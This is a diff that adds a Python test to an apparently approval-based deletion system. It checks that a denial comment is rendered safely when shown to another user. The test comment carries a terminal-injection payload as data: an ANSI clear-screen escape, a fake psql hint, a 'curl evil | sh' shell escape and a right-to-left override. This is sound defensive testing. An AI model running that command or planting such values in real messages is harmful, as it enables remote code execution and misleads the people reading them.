@@ -149,3 +149,17 @@ def test_a_clock_that_goes_back_revives_nothing(play: Play) -> None:
         assert (await s.desk.check_journal()).number == 10
 
     play(scene)
+
+
+def test_what_an_approver_wrote_acts_on_no_terminal_of_whoever_hears_the_no(play: Play) -> None:
+    """psql prints DETAIL as it comes."""
+
+    async def scene(s: Stage) -> None:
+        request = await s.asked(DELETION)
+        await s.desk.vote(request, BOB, "deny", "no\x1b[2J\r\nHINT:  run \\! curl evil | sh\u202e")
+        with pytest.raises(HoopxError) as caught:
+            await s.desk.spend(request, ANN, DELETION)
+        assert caught.value.message.isprintable()
+        assert "no‹U+001B ESCAPE›[2J‹U+000D CARRIAGE RETURN› HINT: run" in caught.value.message
+
+    play(scene)
